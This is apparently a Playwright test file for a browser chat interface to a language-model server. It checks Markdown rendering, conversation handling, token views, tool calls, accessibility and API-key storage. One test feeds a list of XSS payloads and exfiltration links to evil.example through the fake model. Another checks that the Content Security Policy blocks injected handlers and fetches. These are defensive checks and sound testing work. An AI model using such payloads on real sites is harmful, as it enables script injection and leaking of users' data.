/** The page in Chromium, against a server whose model says what a test lets it say. */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import axe, { type AxeResults } from 'axe-core';
import type { Browser, Page } from 'playwright-core';
import { plainKeys } from '../../src/api/door/keys.js';
import { FakeTokenizer } from '../../src/api/fake-engine.js';
import { type FakeServer, fakeServer, saying } from '../../src/api/fake-exchange.js';
import { ModelMarkup } from '../../src/api/model-markup.js';
import { reasoningFormats } from '../../src/parsing/reasoning-format.js';
import { toolFormats } from '../../src/parsing/tool-formats.js';
import { launch, noBrowser, type Visit, visit } from './browser.js';

const markup = new ModelMarkup(new FakeTokenizer(), {
  toolFormat: toolFormats.find(({ name }) => name === 'hermes')!,
  autoToolChoice: true,
  reasoningFormat: reasoningFormats.find(({ name }) => name === 'qwen3')!,
});

describe('the page', { skip: noBrowser }, () => {
  let it: FakeServer;
  let browser: Browser;
  before(async () => {
    browser = await launch();
    it = await fakeServer({}, {}, { markup });
  });
  after(async () => {
    await browser?.close();
    await it?.close();
  });

  /** A visit of which every request and every script is watched. */
  async function on(use: (visited: Visit) => Promise<void>, options = {}, url = it.url): Promise<void> {
    const visited = await visit(browser, `${url}/`, options);
    try {
      await use(visited);
      assert.deepEqual(visited.faults, []);
    } finally {
      await visited.close();
    }
  }

  const say = (text: string, stepMs = 0) => {
    it.engine.options = { ...saying(text), stepMs };
  };
  const field = (page: Page) => page.getByLabel('Your message');
  async function ask(page: Page, text: string): Promise<void> {
    await field(page).fill(text);
    await field(page).press('Enter');
    await page.getByText('The answer is complete.').waitFor({ state: 'attached' });
  }
  const answers = (page: Page) => page.locator('.turn.assistant .text');

  test('an answer is streamed and shown as Markdown', () =>
    on(async ({ page, asked }) => {
      say('# Title\n\nSome **bold** text.\n\n```js\nlet a = 1 < 2;\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n');
      await ask(page, 'hello');
      assert.equal(await page.locator('.text h3').textContent(), 'Title');
      assert.equal(await page.locator('.text strong').textContent(), 'bold');
      assert.equal(await page.locator('.text pre code').textContent(), 'let a = 1 < 2;');
      assert.equal(await page.locator('.text td').count(), 2);
      assert.deepEqual(asked[0]!['messages'], [{ role: 'user', content: 'hello' }]);
    }));

  test('what a model writes to inject a script is text', () =>
    on(async ({ page }) => {
      const attacks = [
        '<script>window.pwned = 1</script>',
        '<img src=x onerror="window.pwned = 2">',
        '<svg onload="window.pwned = 3"><circle r=9></svg>',
        '<iframe srcdoc="<script>parent.pwned = 4</script>"></iframe>',
        '[click](javascript:window.pwned=5)',
        '[click](&#x6a;avascript:window.pwned=6)',
        '![leak](https://evil.example/?all)',
        '<a href="javascript:window.pwned=7">click</a>',
        '<style>body { display: none }</style>',
        '<form action="https://evil.example"><button>click</button></form>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<base href="https://evil.example/">',
        '```"><script>window.pwned = 8</script>\ncode\n```',
        '<details open ontoggle="window.pwned = 9">',
      ];
      say(attacks.join('\n\n'));
      await ask(page, '<img src=x onerror="window.pwned = 10">');
      const turns = page.locator('.turns');
      assert.equal(await turns.locator('img, script, iframe, svg, style, form, meta, base, details').count(), 0);
      for (const link of await turns.locator('a').all()) {
        assert.match((await link.getAttribute('href'))!, /^https:/);
        assert.equal(await link.getAttribute('rel'), 'noopener noreferrer');
      }
      for (const text of await turns.getByText('click', { exact: true }).all()) await text.click();
      assert.equal(await page.evaluate('window.pwned'), undefined);
      assert.match((await answers(page).textContent())!, /<script>window\.pwned = 1<\/script>/);
      // In the titles of conversations and after a reload too.
      await page.reload();
      await turns.locator('.turn.assistant').waitFor();
      assert.equal(await page.evaluate('window.pwned'), undefined);
    }));

  test('the policy stops a script, should one ever come to stand in the page', () =>
    on(async ({ page, faults }) => {
      await page.evaluate(`try { document.body.innerHTML = '<img src=x onerror="window.pwned = 1">' } catch {}`);
      await page
        .evaluate(`{ const b = document.createElement('button'); b.setAttribute('onclick', 'window.pwned = 2'); b.click() }`)
        .catch(() => {});
      await page.evaluate(`fetch('https://evil.example/').catch(() => {})`);
      assert.equal(await page.evaluate('window.pwned'), undefined);
      assert.ok(faults.some((fault) => /Content Security Policy|TrustedHTML/.test(fault)));
      faults.length = 0;
    }));

  test('stop, regenerate and edit', () =>
    on(async ({ page, asked }) => {
      say('a long answer '.repeat(200), 5);
      await field(page).fill('first');
      await field(page).press('Enter');
      await page.getByText('a long answer').first().waitFor();
      const numAborts = it.engine.numAborts;
      await page.getByRole('button', { name: 'Stop' }).click();
      await page.getByText('stopped').waitFor();
      for (let i = 0; i < 100 && it.engine.numAborts === numAborts; i++) await page.waitForTimeout(20);
      assert.equal(it.engine.numAborts, numAborts + 1, 'the engine heard of it');

      say('short');
      await page.getByRole('button', { name: 'Regenerate' }).click();
      await page.getByText('short', { exact: true }).waitFor();
      assert.deepEqual(asked[1]!['messages'], [{ role: 'user', content: 'first' }]);

      await page.locator('.turn.user').getByRole('button', { name: 'Edit' }).click();
      await page.getByLabel('Your question').fill('second');
      say('other');
      await page.getByRole('button', { name: 'Ask again' }).click();
      await page.getByText('other', { exact: true }).waitFor();
      assert.deepEqual(asked[2]!['messages'], [{ role: 'user', content: 'second' }]);
      assert.equal(await page.locator('.turn').count(), 2);
    }));

  test('several conversations, kept over a reload, each with its system prompt and parameters', () =>
    on(async ({ page, asked }) => {
      say('one');
      await page.getByText('System prompt').click();
      await page.getByLabel('System prompt').fill('Be brief.');
      await page.getByText('Parameters', { exact: true }).click();
      await page.getByLabel('Temperature').fill('0.5');
      await page.getByLabel('Longest answer').fill('7');
      await ask(page, 'first question');
      const { messages, temperature, max_tokens } = asked[0]!;
      assert.deepEqual([temperature, max_tokens], [0.5, 7]);
      assert.deepEqual(messages, [
        { role: 'system', content: 'Be brief.' },
        { role: 'user', content: 'first question' },
      ]);
      await page.getByRole('button', { name: 'New conversation' }).first().click();
      await ask(page, 'second question');
      await page.reload();
      const list = page.getByRole('navigation', { name: 'Conversations' });
      await list.getByRole('button', { name: 'first question', exact: true }).click();
      assert.equal(await page.locator('.turn.user .text').textContent(), 'first question');
      await list.getByRole('button', { name: 'Remove: first question' }).click();
      assert.equal(await list.getByText('first question').count(), 0);
    }));

  test('tokens: the probability of each and what else could have come, by the keyboard too', () =>
    on(async ({ page }) => {
      say('abc');
      await ask(page, 'x');
      await page.getByRole('button', { name: 'Tokens' }).click();
      const tokens = page.getByRole('listbox');
      assert.equal(await tokens.getByRole('option', { name: 'a, 61 %' }).getAttribute('aria-selected'), 'true');
      await tokens.focus();
      await page.keyboard.press('ArrowRight');
      assert.equal(await tokens.getByRole('option', { name: 'b, 61 %' }).getAttribute('aria-selected'), 'true');
      const rows = page.locator('.alternatives tr');
      assert.deepEqual(await rows.locator('code').allTextContents(), ['b', 'c', 'd', 'e', 'f']);
      assert.deepEqual((await rows.locator('td.number').allTextContents()).slice(0, 2), ['61 %', '22 %']);
    }));

  test('reasoning and calls are folded; the result of a call goes back', () =>
    on(async ({ page, asked }) => {
      await page.getByText('Tools', { exact: true }).click();
      await page
        .getByLabel('Tools, as a JSON list')
        .fill(
          '[{"type": "function", "function": {"name": "weather", "parameters": {"type": "object", "properties": {"city": {"type": "string"}}}}}]',
        );
      say('<think>Which city?</think>\n<tool_call>\n{"name": "weather", "arguments": {"city": "Oslo"}}\n</tool_call>');
      await ask(page, 'weather?');
      assert.equal(await page.getByText('Which city?').isVisible(), false);
      await page.getByText('Reasoning').click();
      assert.equal(await page.getByText('Which city?').isVisible(), true);
      await page.getByText('Calls weather').click();
      assert.match((await page.locator('.folded pre').textContent())!, /"city": "Oslo"/);
      say('Cold.');
      await page.getByLabel('What weather answers').fill('-5');
      await page.getByRole('button', { name: 'Send' }).first().click();
      await page.getByText('Cold.').waitFor();
      const messages = asked[1]!['messages'] as { role: string; content: string }[];
      assert.deepEqual(
        messages.map(({ role }) => role),
        ['user', 'assistant', 'tool'],
      );
      assert.equal(messages[2]!.content, '-5');
    }));

  test('an error of the server is said', () =>
    on(async ({ page }) => {
      it.engine.options = { failAt: 2 };
      await field(page).fill('x');
      await field(page).press('Enter');
      await page.getByRole('alert').waitFor();
      assert.match((await page.getByRole('alert').textContent())!, /the fake engine failed as asked/);
    }));

  test('the engine, live', () =>
    on(async ({ page }) => {
      say('abc');
      await page.getByRole('link', { name: 'Engine' }).click();
      await page.getByRole('heading', { name: 'fake', level: 1 }).waitFor();
      await page.getByRole('img', { name: /^Tokens out per second: / }).waitFor();
      await it.ask('/v1/completions', { prompt: 'x', max_tokens: 50 });
      await page.getByText('peak', { exact: false }).first().waitFor();
      await page.getByRole('heading', { name: 'A step, by phase and rank' }).waitFor();
      await page.getByRole('row', { name: /^0 / }).waitFor();
      assert.equal(await page.getByRole('img', { name: 'rank 0: 0–257' }).count(), 1);
      assert.match(await page.locator('main').innerText(), /Weights\s+2\.86 MiB/);
    }));

  test('nothing is wider than the screen, in both views', async () => {
    say(`A paragraph.\n\n\`\`\`\n${'x'.repeat(400)}\n\`\`\`\n\n${'word'.repeat(100)}`);
    for (const width of [320, 768, 1440]) {
      await on(
        async ({ page }) => {
          await ask(page, 'y'.repeat(300));
          await page.getByRole('button', { name: 'Tokens' }).click();
          for (const hash of ['chat', 'engine']) {
            await page.evaluate(`location.hash = '${hash}'`);
            await page.waitForTimeout(100);
            assert.ok((await page.evaluate<number>('document.documentElement.scrollWidth')) <= width, `${hash} at ${width}`);
          }
        },
        { viewport: { width, height: 700 }, colorScheme: width === 768 ? 'dark' : 'light' },
      );
    }
  });

  /** What axe calls serious or critical, contrasts among them. */
  async function violations(page: Page): Promise<string[]> {
    await page.evaluate(axe.source);
    const found = await page.evaluate<AxeResults>('axe.run(document, { resultTypes: ["violations"] })');
    const serious = found.violations.filter(({ impact }) => impact === 'serious' || impact === 'critical');
    return serious.flatMap(({ id, nodes }) => nodes.map(({ html, failureSummary }) => `${id}: ${html} ${failureSummary}`));
  }

  for (const colorScheme of ['light', 'dark'] as const)
    test(`axe finds no serious violation, ${colorScheme}`, () => {
      say(
        '# Title\n\nSome **bold** text, `code` and a [link](https://example.org).\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```js\nlet a;\n```\n',
      );
      return on(
        async ({ page }) => {
          assert.deepEqual(await violations(page), [], 'nothing said yet');
          const { width, height } = page.viewportSize()!;
          await page.setViewportSize({ width, height: 250 });
          await page.evaluate(`location.hash = 'engine'`);
          await page.getByRole('heading', { level: 1 }).waitFor();
          assert.deepEqual(await violations(page), [], 'the engine before its first step, scrolled by keyboard alone');
          await page.evaluate(`location.hash = 'chat'`);
          await page.setViewportSize({ width, height });
          await ask(page, 'hello');
          await page.getByRole('button', { name: 'Tokens' }).click();
          assert.deepEqual(await violations(page), [], 'an answer, and its tokens');
          await page.evaluate(`location.hash = 'engine'`);
          await page
            .getByRole('img', { name: /rank 0/ })
            .first()
            .waitFor();
          assert.deepEqual(await violations(page), [], 'the engine');
          await page.evaluate(`document.querySelector('main').append(document.createElement('button'))`);
          assert.match((await violations(page)).join(), /^button-name: <button>/, 'a button without a name is found');
        },
        { colorScheme },
      );
    });

  test('with an API key: asked for, kept for the tab alone, and forgotten on request', async () => {
    const guarded = await fakeServer({ apiKeys: plainKeys(['secret']) }, saying('hi'));
    await on(
      async ({ page }) => {
        const key = page.getByLabel('API key');
        await key.fill('wrong');
        await key.press('Enter');
        await page.getByText('The key was not accepted.').waitFor();
        await key.fill('secret');
        await key.press('Enter');
        await ask(page, 'x');
        assert.equal(await answers(page).textContent(), 'hi');
        assert.equal(await page.evaluate(`JSON.stringify(localStorage).includes('secret')`), false);
        await page.reload();
        await page.getByRole('heading', { name: 'fake', level: 2 }).waitFor();
        await page.getByRole('button', { name: 'Forget key' }).click();
        await key.waitFor();
      },
      {},
      guarded.url,
    );
    await guarded.close();
  });
});
